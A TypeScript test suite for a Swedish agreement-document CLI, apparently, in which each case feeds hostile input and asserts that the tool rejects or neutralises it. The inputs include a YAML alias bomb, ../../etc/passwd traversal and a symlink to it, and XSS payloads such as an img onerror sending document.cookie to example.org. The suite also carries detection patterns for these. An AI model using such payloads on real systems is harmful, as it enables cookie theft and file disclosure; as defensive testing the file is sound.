// The hostile-input corpus: each case makes its input in a fresh folder, runs the real CLI and
// states the outcome it must have. docs/tillforlitlighet.md is generated from this list.
import { mkdirSync, readFileSync, symlinkSync, writeFileSync, openSync, writeSync, closeSync, existsSync, readdirSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { ROOT } from '../helpers/cli.js';
import { readPdf } from '../helpers/pdf.js';

export interface HostileCase {
  /** Short id, also the folder name. */
  id: string;
  /** What the input is, in Swedish, for the table. */
  input: string;
  /** What iop must do, in Swedish, for the table. */
  outcome: string;
  /** Creates the input in `dir`; returns the CLI arguments. */
  setup(dir: string): string[];
  exitCode: number;
  /** Must appear in stdout or stderr. */
  expect: RegExp;
  /** Extra environment for the run (e.g. IOP_DEBUG_REQUESTS=1). */
  env?: Record<string, string>;
  /** Checked after the run, e.g. that nothing outside was read; `dir` is the case's folder. */
  after?(result: { stdout: string; stderr: string; dir: string }): void | Promise<void>;
}

const MINIMAL = join(ROOT, 'test/fixtures/minimal/iop.yaml');

function minimal(): string {
  return readFileSync(MINIMAL, 'utf8');
}

/** Writes an ärende folder with the minimal iop.yaml changed by `edit`; returns its path. */
function arende(dir: string, edit: (yaml: string) => string | Buffer = (y) => y): string {
  const folder = join(dir, 'arende');
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, 'iop.yaml'), edit(minimal()));
  return folder;
}

function check(folder: string): string[] {
  return ['check', folder, '--format', 'json'];
}

/** `iop build` of the folder into <dir>/ut, with the HTML too. */
function build(folder: string, dir: string): string[] {
  return ['build', folder, '--out', join(dir, 'ut'), '--html'];
}

/** Writes an ärende whose avtal.md carries `markdown` under a heading; returns the build arguments. */
function avtalWith(markdown: string) {
  return (dir: string): string[] => {
    const folder = arende(dir);
    writeFileSync(join(folder, 'avtal.md'), `## Bakgrund\n\nLäxhjälpen har funnits sedan 2019.\n\n${markdown}\n`);
    return build(folder, dir);
  };
}

/** Every file the build wrote, as text: HTML as written, PDFs as their text. */
async function outputs(dir: string): Promise<Array<{ file: string; text: string }>> {
  const out = join(dir, 'ut', 'arende');
  if (!existsSync(out)) throw new Error('no output was written');
  return Promise.all(
    readdirSync(out).map(async (name) => {
      const file = join(out, name);
      const text = name.endsWith('.pdf') ? (await readPdf(file)).text : readFileSync(file, 'utf8');
      return { file: name, text };
    }),
  );
}

const REMOTE = /(?:\b(?:src|href|srcset|action|data|poster)\s*=\s*["']?|url\(\s*["']?|@import\s+["']?)(?:https?:|ftp:)?\/\//i;

/**
 * What no output may carry, whatever the input: a script, an event handler attribute, a frame,
 * a javascript: URL or a reference to anything outside the document; and the browser, which
 * logs every request with IOP_DEBUG_REQUESTS=1, let nothing but data: URLs through.
 */
function assertInert(marker: RegExp) {
  return async ({ stderr, dir }: { stderr: string; dir: string }): Promise<void> => {
    const files = await outputs(dir);
    if (!files.some((f) => f.file === 'avtal.html') || !files.some((f) => f.file === 'avtal.pdf')) throw new Error('avtal.html and avtal.pdf were not both written');
    for (const { file, text } of files) {
      const problems = [
        [/<script\b/i, 'a script element'],
        [/<(?:iframe|frame|object|embed)\b/i, 'a frame or embedded object'],
        [/<[a-z][^>]*\son[a-z]+\s*=/i, 'an event handler attribute'],
        [/javascript:/i, 'a javascript: URL'],
        [REMOTE, 'a remote URL'],
        [marker, 'the remote host of the input'],
      ] as const;
      for (const [pattern, what] of problems) if (pattern.test(text)) throw new Error(`${file} contains ${what}`);
    }
    // Link targets and actions live in the PDF's objects, not in its text.
    const raw = readFileSync(join(dir, 'ut', 'arende', 'avtal.pdf')).toString('latin1');
    if (/\/(?:JavaScript|JS|Launch|SubmitForm|ImportData)\b/.test(raw)) throw new Error('avtal.pdf contains a script or launch action');
    if (/\/URI\s*\((?:javascript:|[^)]*example\.org)/i.test(raw)) throw new Error('avtal.pdf links to a script or the remote host');
    // And as a PDF reader sees them: no link leads out of the document.
    const outside = (await readPdf(join(dir, 'ut', 'arende', 'avtal.pdf'))).links.filter((link) => link.url !== undefined);
    if (outside.length > 0) throw new Error(`avtal.pdf links out of the document: ${outside.map((link) => link.url).join(', ')}`);
    const through = stderr.split('\n').filter((line) => line.startsWith('iop-debug: begäran tillåten:') && !/tillåten: (?:data:|about:blank)/.test(line));
    if (through.length > 0) throw new Error(`the browser let requests through: ${through.join('; ')}`);
  };
}

const EXAMPLE = /example\.org/i;
const DEBUG = { IOP_DEBUG_REQUESTS: '1' };

function aliasBomb(): string {
  const lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let i = 0; i < 8; i++) {
    const prev = String.fromCharCode(97 + i);
    const next = String.fromCharCode(98 + i);
    lines.push(`${next}: &${next} [${Array(9).fill('*' + prev).join(',')}]`);
  }
  return lines.join('\n') + '\n';
}

export const HOSTILE_CASES: HostileCase[] = [
  {
    id: 'alias-bomb',
    input: 'YAML-aliasbomb ("billion laughs"), nio nivåer med nio alias var',
    outcome: 'Fel på rad 1: för många alias. Expanderas aldrig.',
    setup: (dir) => check(arende(dir, () => aliasBomb())),
    exitCode: 1,
    expect: /för många YAML-alias/,
  },
  {
    id: 'stor-fil',
    input: 'iop.yaml på 50 MB',
    outcome: 'Fel "Filen är 50,0 MB" utan att filen läses in.',
    setup: (dir) => {
      const folder = join(dir, 'arende');
      mkdirSync(folder);
      const fd = openSync(join(folder, 'iop.yaml'), 'w');
      const chunk = Buffer.alloc(1024 * 1024, 'a: 1\n');
      for (let i = 0; i < 50; i++) writeSync(fd, chunk);
      closeSync(fd);
      return check(folder);
    },
    exitCode: 1,
    expect: /Filen är 50,0 MB/,
  },
  {
    id: 'binardata',
    input: 'Slumpmässiga binära byte i iop.yaml',
    outcome: 'Fel med rad och kolumn: inte UTF-8 eller binärdata.',
    setup: (dir) => check(arende(dir, () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0xff, 0xfe, 0x10]))),
    exitCode: 1,
    expect: /UTF-8|binärdata/,
  },
  {
    id: 'ogiltig-utf8',
    input: 'Latin-1-kodat å i en titel',
    outcome: 'Fel på den rad där den första felaktiga byten står.',
    setup: (dir) => check(arende(dir, (y) => Buffer.concat([Buffer.from(y.split('\n').slice(0, 4).join('\n') + '\n  undertitel: P'), Buffer.from([0xe5]), Buffer.from('l\n' + y.split('\n').slice(4).join('\n'))]))),
    exitCode: 1,
    expect: /inte giltig UTF-8[\s\S]*"line": 5,/,
  },
  {
    id: 'nul',
    input: 'NUL-tecken mitt i iop.yaml',
    outcome: 'Fel med position: binärdata.',
    setup: (dir) => check(arende(dir, (y) => y.replace('mål:', 'mål:\u0000'))),
    exitCode: 1,
    expect: /NUL-tecken/,
  },
  {
    id: 'bom',
    input: 'UTF-8 med byte order mark (BOM)',
    outcome: 'Godtas; inga fel.',
    setup: (dir) => check(arende(dir, (y) => '\uFEFF' + y)),
    exitCode: 0,
    expect: /"errors": 0/,
  },
  {
    id: 'crlf',
    input: 'Windows-radslut (CRLF) och ett fel på rad 5',
    outcome: 'Felet rapporteras på rätt rad.',
    setup: (dir) => check(arende(dir, (y) => y.replace('  diarienummer: KS-2025-0117', '  diarienumer: KS-2025-0117').replaceAll('\n', '\r\n'))),
    exitCode: 1,
    expect: /"line": 5,/,
  },
  {
    id: 'djup-nastling',
    input: 'Listor nästlade 10 000 nivåer djupt',
    outcome: 'Ett fel, ingen krasch.',
    setup: (dir) => check(arende(dir, () => 'a: ' + '['.repeat(10000) + ']'.repeat(10000) + '\n')),
    exitCode: 1,
    expect: /"severity": "error"/,
  },
  {
    id: 'dubblett-nyckel',
    input: 'Samma nyckel två gånger i ett objekt',
    outcome: 'Fel på den andra förekomsten.',
    setup: (dir) => check(arende(dir, (y) => y.replace('  ort: Malmö', '  ort: Malmö\n  ort: Lund'))),
    exitCode: 1,
    expect: /yaml\/dubblett-nyckel/,
  },
  {
    id: 'belopp-text',
    input: 'Ett belopp skrivet som text ("250 000 kr")',
    outcome: 'Fel på beloppets rad: ska vara ett tal.',
    setup: (dir) => check(arende(dir, (y) => y.replace('belopp: 250000', 'belopp: "250 000 kr"'))),
    exitCode: 1,
    expect: /ett tal i hela kronor.*skriv 250000/,
  },
  {
    id: 'belopp-1e308',
    input: 'Ett belopp på 1e308',
    outcome: 'Fel: för stort.',
    setup: (dir) => check(arende(dir, (y) => y.replace('belopp: 250000', 'belopp: 1e308'))),
    exitCode: 1,
    expect: /för stort/,
  },
  {
    id: 'belopp-negativt',
    input: 'Ett negativt belopp',
    outcome: 'Fel från regeln om belopp.',
    setup: (dir) => check(arende(dir, (y) => y.replace('belopp: 250000', 'belopp: -250000'))),
    exitCode: 1,
    expect: /"path": "\/finansiering/,
  },
  {
    id: 'datum-30-februari',
    input: 'Datumet 2024-02-30',
    outcome: 'Fel: inget giltigt datum.',
    setup: (dir) => check(arende(dir, (y) => y.replace('datum: 2025-01-15', 'datum: 2024-02-30'))),
    exitCode: 1,
    expect: /'2024-02-30' är inget giltigt datum/,
  },
  {
    id: 'tom-mapp',
    input: 'En tom ärendemapp',
    outcome: 'En rad: ingen iop.yaml hittades (slutkod 2).',
    setup: (dir) => {
      mkdirSync(join(dir, 'tom'));
      return ['check', join(dir, 'tom')];
    },
    exitCode: 2,
    expect: /Hittade ingen iop\.yaml/,
  },
  {
    id: 'lista-overst',
    input: 'En lista i stället för ett objekt överst i filen',
    outcome: 'Fel på rad 1: filen ska innehålla ett objekt.',
    setup: (dir) => check(arende(dir, () => '- parter\n- mål\n')),
    exitCode: 1,
    expect: /ska innehålla ett objekt/,
  },
  {
    id: 'bilaga-sokvag',
    input: 'En bilaga med sökvägen ../../etc/passwd',
    outcome: 'Fel i schemat: bilagor ska ligga i bilagor/. Filen läses aldrig.',
    setup: (dir) => check(arende(dir, (y) => y + 'bilagor:\n  - nummer: 1\n    titel: Lösenord\n    fil: ../../etc/passwd\n')),
    exitCode: 1,
    expect: /ska vara en Markdown-fil i mappen bilagor/,
    after: ({ stdout }) => {
      if (stdout.includes('root:')) throw new Error('read /etc/passwd');
    },
  },
  {
    id: 'symlank-utanfor',
    input: 'En fil i bilagor/ som är en symbolisk länk till /etc/passwd',
    outcome: 'Fel: länken pekar utanför ärendet. Filen läses aldrig.',
    setup: (dir) => {
      const folder = arende(dir);
      mkdirSync(join(folder, 'bilagor'));
      symlinkSync('/etc/passwd', join(folder, 'bilagor', '1-hemlig.md'));
      return check(folder);
    },
    exitCode: 1,
    expect: /pekar utanför ärendemappen/,
    after: ({ stdout }) => {
      if (stdout.includes('root:')) throw new Error('read /etc/passwd');
    },
  },
  {
    id: 'md-script',
    input: 'avtal.md med ett `<script>`-element',
    outcome: 'PDF och HTML byggs; skriptet tas bort (rå HTML i Markdown används aldrig).',
    setup: avtalWith('<script>document.title = "kapad"; fetch("https://example.org/stjal")</script>'),
    env: DEBUG,
    exitCode: 0,
    expect: /Skrev .*avtal\.pdf/,
    after: assertInert(/kapad|example\.org/i),
  },
  {
    id: 'md-onerror',
    input: 'avtal.md med `<img src=x onerror=…>`',
    outcome: 'Bilden och händelseattributet tas bort.',
    setup: avtalWith('<img src=x onerror="fetch(\'https://example.org/\' + document.cookie)">'),
    env: DEBUG,
    exitCode: 0,
    expect: /Skrev .*avtal\.pdf/,
    after: assertInert(EXAMPLE),
  },
  {
    id: 'md-iframe',
    input: 'avtal.md med en `<iframe>` mot en extern webbplats',
    outcome: 'Ramen tas bort; ingen begäran görs.',
    setup: avtalWith('<iframe src="https://example.org/ram"></iframe>'),
    env: DEBUG,
    exitCode: 0,
    expect: /Skrev .*avtal\.pdf/,
    after: assertInert(EXAMPLE),
  },
  {
    id: 'md-javascript-lank',
    input: 'avtal.md med länken `[planen](javascript:alert(1))`',
    outcome: 'Länktexten står kvar, adressen tas bort.',
    setup: avtalWith('Läs [planen](javascript:alert(1)) och [den här](JaVaScRiPt:alert(2)).'),
    env: DEBUG,
    exitCode: 0,
    expect: /Skrev .*avtal\.pdf/,
    after: assertInert(/alert\(/),
  },
  {
    id: 'md-fjarrbild',
    input: 'avtal.md med en bild från en annan webbplats: `![x](https://example.org/a.png)`',
    outcome: 'Bilden tas bort; bara inbäddade bilder (data:) används.',
    setup: avtalWith('![Karta](https://example.org/a.png)\n\n![Spårare](//example.org/b.png)'),
    env: DEBUG,
    exitCode: 0,
    expect: /Skrev .*avtal\.pdf/,
    after: assertInert(EXAMPLE),
  },
  {
    id: 'md-css-import',
    input: 'avtal.md med `<style>@import url(https://…)</style>`',
    outcome: 'Stilelementet tas bort; ingen begäran görs.',
    setup: avtalWith('<style>@import url(https://example.org/a.css); body { background: url("https://example.org/b.png") }</style>'),
    env: DEBUG,
    exitCode: 0,
    expect: /Skrev .*avtal\.pdf/,
    after: assertInert(EXAMPLE),
  },
  {
    id: 'md-style-url',
    input: 'avtal.md med `style="background:url(https://…)"` på ett element',
    outcome: 'Elementet och attributet tas bort; ingen begäran görs.',
    setup: avtalWith('<p style="background:url(https://example.org/bg.png)">Stycke med bakgrund</p>\n\n<span style="background-image:url(//example.org/x.png)">text</span>'),
    env: DEBUG,
    exitCode: 0,
    expect: /Skrev .*avtal\.pdf/,
    after: assertInert(EXAMPLE),
  },
  {
    id: 'partnamn-handlebars',
    input: 'Ett partnamn som ser ut som en mall: `"{{#each parter}}x{{/each}}"`',
    outcome: 'Namnet skrivs ut precis som det står; uppgifter är aldrig mallar. Inget fel: `text/referenser` granskar bara texterna, inte uppgifterna i iop.yaml.',
    setup: (dir) => {
      const folder = arende(dir, (y) => y.replace('namn: Föreningen Läxhjälpen i Kvarnby', 'namn: "{{#each parter}}x{{/each}} <b>Läxhjälpen</b>"'));
      writeFileSync(join(folder, 'avtal.md'), '## Bakgrund\n\n{{part "laxhjalpen"}} ordnar läxhjälp.\n');
      return build(folder, dir);
    },
    env: DEBUG,
    exitCode: 0,
    expect: /Skrev .*avtal\.pdf/,
    after: async (result) => {
      await assertInert(EXAMPLE)(result);
      const files = await outputs(result.dir);
      const pdf = files.find((f) => f.file === 'avtal.pdf')!.text;
      if (!pdf.includes('{{#each parter}}x{{/each}} <b>Läxhjälpen</b> ordnar läxhjälp')) throw new Error('the party name was not printed as written');
      if (/\bxx\b/.test(pdf)) throw new Error('the party name was evaluated as a template');
      const html = files.find((f) => f.file === 'avtal.html')!.text;
      if (html.includes('<b>Läxhjälpen</b>')) throw new Error('markup in the party name reached the HTML');
    },
  },
  {
    id: 'stilmall-fjarr',
    input: 'En egen stilmall (i iop.config.yaml) som hämtar bakgrund och typsnitt från en annan webbplats',
    outcome: 'PDF byggs. Dokumentets innehållspolicy (CSP) stoppar hämtningarna innan de blir begäranden; webbläsaren, som spärrar allt utom `data:`, ser dem aldrig.',
    setup: (dir) => {
      const folder = arende(dir);
      writeFileSync(join(folder, 'iop.config.yaml'), 'stilmall: utskrift.css\n');
      writeFileSync(
        join(folder, 'utskrift.css'),
        'body { background: url(https://example.org/bakgrund.png); }\n@font-face { font-family: Fjarr; src: url(https://example.org/typsnitt.woff2); }\nh1 { font-family: Fjarr; }\n',
      );
      return build(folder, dir);
    },
    env: DEBUG,
    exitCode: 0,
    expect: /iop-debug: begäran tillåten: data:/,
    after: async ({ stderr, dir }) => {
      // Without the policy both would reach the browser's filter and be logged as blocked there.
      if (/begäran (?:tillåten|blockerad): https:\/\/example\.org/.test(stderr)) throw new Error('a request to the remote host was made');
      if (/begäran tillåten: (?!data:|about:blank)/.test(stderr)) throw new Error('a request got through');
      const html = readFileSync(join(dir, 'ut', 'arende', 'avtal.html'), 'utf8');
      if (!html.includes(`content="default-src 'none';`)) throw new Error('the written HTML has no Content-Security-Policy');
      const pdf = (await outputs(dir)).find((f) => f.file === 'avtal.pdf')!.text;
      if (EXAMPLE.test(pdf)) throw new Error('the PDF mentions the remote host');
    },
  },
  {
    id: 'mallar-utanfor',
    input: '`mallar: ../utanfor` i iop.config.yaml, en mapp utanför konfigurationens mapp',
    outcome: 'En rad: mallmappen ligger utanför (slutkod 2). Inget läses därifrån och ingen PDF skrivs.',
    setup: (dir) => {
      const repo = join(dir, 'repo');
      const folder = join(repo, 'arende');
      mkdirSync(folder, { recursive: true });
      writeFileSync(join(folder, 'iop.yaml'), minimal());
      writeFileSync(join(repo, 'iop.config.yaml'), 'mallar: ../utanfor\n');
      mkdirSync(join(dir, 'utanfor'));
      // A named pipe: reading it would block until the test's time limit, so a run that ends proves nothing was read.
      execFileSync('mkfifo', [join(dir, 'utanfor', 'avtal.hbs')]);
      return ['build', folder, '--out', join(dir, 'ut')];
    },
    exitCode: 2,
    expect: /Mallmappen \.\.\/utanfor i iop\.config\.yaml ligger utanför mappen/,
    after: ({ dir }) => {
      if (existsSync(join(dir, 'ut'))) throw new Error('something was written');
    },
  },
  {
    id: 'konfiguration-stavfel',
    input: '`stilmal: utskrift.css` (stavfel) i iop.config.yaml, `iop build`',
    outcome: 'Felet i iop.config.yaml visas med rad och kolumn; ingen slutlig PDF byggs (slutkod 1). Konfigurationen används aldrig till en del.',
    setup: (dir) => {
      const folder = arende(dir);
      writeFileSync(join(dir, 'iop.config.yaml'), 'stilmal: utskrift.css\n');
      return build(folder, dir);
    },
    exitCode: 1,
    expect: /ingen PDF byggdes eftersom iop\.config\.yaml som ärendet använder har fel/,
    after: ({ dir }) => {
      if (existsSync(join(dir, 'ut'))) throw new Error('a PDF was written');
    },
  },
  {
    id: 'konfiguration-ovanfor-arkivet',
    input: 'En iop.config.yaml i mappen ovanför arkivet (mappen med `.git`) som stänger av `finansiering/summa` och har ett stavfel',
    outcome: 'Används inte: iop letar inte förbi arkivets rot. Kontrollen går som utan den (slutkod 0).',
    setup: (dir) => {
      const repo = join(dir, 'arkiv');
      mkdirSync(join(repo, '.git'), { recursive: true });
      const folder = arende(repo);
      writeFileSync(join(dir, 'iop.config.yaml'), 'stilmal: utskrift.css\nregler:\n  finansiering/summa: av\n');
      return check(folder);
    },
    exitCode: 0,
    expect: /"errors": 0/,
    after: ({ stdout }) => {
      if (stdout.includes('stilmal')) throw new Error('the config above the repository was read');
    },
  },
  {
    id: 'markdown-i-partnamn',
    input: 'Ett partnamn med Markdown, `[klick](https://example.org) **fet** ![b](data:…)`, infogat i texten med `{{part}}`',
    outcome: 'Skrivs ut som det står: ingen länk, ingen fetstil och ingen bild, varken i HTML eller PDF.',
    setup: (dir) => {
      const folder = arende(dir, (y) => y.replace('namn: Föreningen Läxhjälpen i Kvarnby', "namn: '[klick](https://example.org) **fet** ![b](data:image/png;base64,AAAA)'"));
      writeFileSync(join(folder, 'avtal.md'), '## Bakgrund\n\n{{part "laxhjalpen"}} ordnar läxhjälp.\n');
      return build(folder, dir);
    },
    exitCode: 0,
    expect: /Skrev /,
    after: async ({ dir }) => {
      const html = readFileSync(join(dir, 'ut', 'arende', 'avtal.html'), 'utf8');
      if (/<a [^>]*example\.org|<strong>fet|<img /.test(html)) throw new Error('the name became markup');
      const pdf = await readPdf(join(dir, 'ut', 'arende', 'avtal.pdf'));
      if (pdf.links.some((link) => link.url !== undefined)) throw new Error('the PDF has a link');
    },
  },
  {
    id: 'meta-refresh-i-mall',
    input: 'Ett av tre ärenden har en egen avtal.hbs med `<meta http-equiv="refresh" content="0;url=https://example.org">`',
    outcome: 'Det ärendet får ett fel som namnger mallen, och ingen PDF; de två andra byggs (slutkod 1).',
    setup: (dir) => {
      for (const name of ['a', 'b', 'c']) {
        const folder = join(dir, 'arenden', name);
        mkdirSync(folder, { recursive: true });
        writeFileSync(join(folder, 'iop.yaml'), minimal());
      }
      mkdirSync(join(dir, 'arenden', 'b', 'mallar'));
      const layout = readFileSync(join(ROOT, 'templates', 'avtal.hbs'), 'utf8').replace('<head>', '<head>\n<meta http-equiv="refresh" content="0;url=https://example.org">');
      writeFileSync(join(dir, 'arenden', 'b', 'mallar', 'avtal.hbs'), layout);
      writeFileSync(join(dir, 'arenden', 'b', 'iop.config.yaml'), 'mallar: mallar\n');
      return ['build', 'arenden', '--out', join(dir, 'ut')];
    },
    exitCode: 1,
    expect: /mallar\/avtal\.hbs:\d+:\d+[\s\S]*meta http-equiv="refresh"/,
    after: ({ dir }) => {
      for (const name of ['a', 'c']) if (!existsSync(join(dir, 'ut', name, 'avtal.pdf'))) throw new Error(`${name} was not built`);
      if (existsSync(join(dir, 'ut', 'b'))) throw new Error('the ärende with the refresh was printed');
    },
  },
];
